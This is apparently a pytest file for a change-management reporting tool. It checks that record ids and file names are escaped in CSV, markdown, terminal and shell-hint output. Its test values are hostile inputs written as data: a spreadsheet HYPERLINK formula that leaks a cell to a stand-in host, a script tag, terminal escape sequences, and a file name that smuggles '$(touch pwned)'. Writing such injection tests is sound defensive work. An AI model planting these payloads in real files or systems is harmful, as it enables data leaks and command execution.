"""Text from records reaches spreadsheets, pull-request comments and terminals: none of them may
run it. A record id is whatever the organisation (or an attacker with commit rights) wrote."""

from __future__ import annotations

import csv
import io
import shlex
from pathlib import Path
from typing import Callable

from click.testing import Result

from tests.conftest import Repo, change

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
SCRIPT = "<script>alert(1)</script>"
ESCAPE = "CHG-\x1b]0;owned\x07\x1b[2J"


def _unapproved(change_id: str) -> dict[str, object]:
    """A change carried out in October with no approval: REG-CHG-001 names it in a finding."""
    return change(change_id, approvals=[], status="implemented", review=None, closure=None, test_evidence=[],
                  created="2026-10-01T09:00:00Z",
                  schedule={"start": "2026-10-03T20:00:00Z", "end": "2026-10-03T22:00:00Z"},
                  implementation={"started": "2026-10-03T20:05:00Z", "completed": "2026-10-03T20:40:00Z",
                                  "by": "carol"})


def test_the_csv_report_does_not_hand_a_spreadsheet_a_formula(invoke: Callable[..., Result], history: Repo) -> None:
    history.write("changes/CHG-F.yaml", _unapproved(FORMULA))
    history.commit("A change named like a formula", date="2026-10-20T12:00:00Z")

    result = invoke("report", str(history.path), "--month", "2026-10", "--format", "csv")

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    ours = [r for r in rows if r["path"] == "changes/CHG-F.yaml"]
    assert ours and all(r["record_id"] == "'" + FORMULA for r in ours)
    formula_cells = [value for r in rows for value in r.values() if value and value[0] in "=+-@\t\r"]
    assert formula_cells == []


def test_the_markdown_report_shows_html_as_text(invoke: Callable[..., Result], history: Repo) -> None:
    history.write("changes/CHG-S.yaml", _unapproved(SCRIPT))
    history.commit("A change named like a script", date="2026-10-20T12:00:00Z")

    result = invoke("report", str(history.path), "--month", "2026-10", "--format", "markdown")

    assert result.exit_code == 0, result.output
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in result.stdout
    assert "<script>" not in result.stdout


def test_the_terminal_table_shows_an_escape_sequence_instead_of_sending_it(
        invoke: Callable[..., Result], history: Repo) -> None:
    history.write("changes/CHG-E.yaml", _unapproved(ESCAPE))
    history.commit("A change whose id carries terminal escapes", date="2026-10-20T12:00:00Z")

    result = invoke("scan", str(history.path), "--rev", "HEAD")

    assert result.exit_code == 1, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "CHG-\\x1b]0;owned\\x07\\x1b[2J" in result.stdout


def test_the_git_add_hint_can_be_pasted_safely(invoke: Callable[..., Result], repo: Repo, tmp_path: Path) -> None:
    planted = tmp_path / "$(touch pwned).txt"
    planted.write_text("scan output\n", encoding="utf-8")

    result = invoke("evidence", "add", str(planted), "--type", "vulnerability_scan", "--subject", "CI-1",
                    "--collected-by", "carol", "-C", str(repo.path))

    assert result.exit_code == 0, result.output
    hint = next(line for line in result.stderr.splitlines() if "git add" in line)
    words = shlex.split(hint.partition("git add ")[2])
    assert any(word.endswith("$(touch pwned).txt") for word in words)  # one word, quoted, never run
    assert "'" in hint
